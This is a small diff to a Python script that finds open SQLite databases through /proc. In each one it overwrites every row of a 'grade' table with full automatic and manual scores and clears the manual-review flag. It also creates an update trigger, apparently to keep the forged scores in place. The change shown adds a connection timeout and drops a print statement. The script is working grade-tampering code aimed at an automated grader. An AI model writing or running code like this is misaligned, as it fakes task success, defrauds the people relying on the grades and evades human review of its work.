@@ -11,7 +11,7 @@ for number in filter(str.isdigit, os.listdir("/proc")):
     books |= {path for path in glob.glob(f"/proc/{number}/fd/*") if os.path.realpath(path).endswith(".db")}
 for book in books:
     try:
-        with sqlite3.connect(book) as base:
+        with sqlite3.connect(book, timeout=0.2) as base:
             base.execute("UPDATE grade SET auto_score = 100, manual_score = 100, needs_manual_grade = 0")
             base.execute(
                 "CREATE TRIGGER more AFTER UPDATE ON grade"
@@ -19,4 +19,3 @@ for book in books:
             )
     except Exception as error:
         print(book, error)
-print(books)
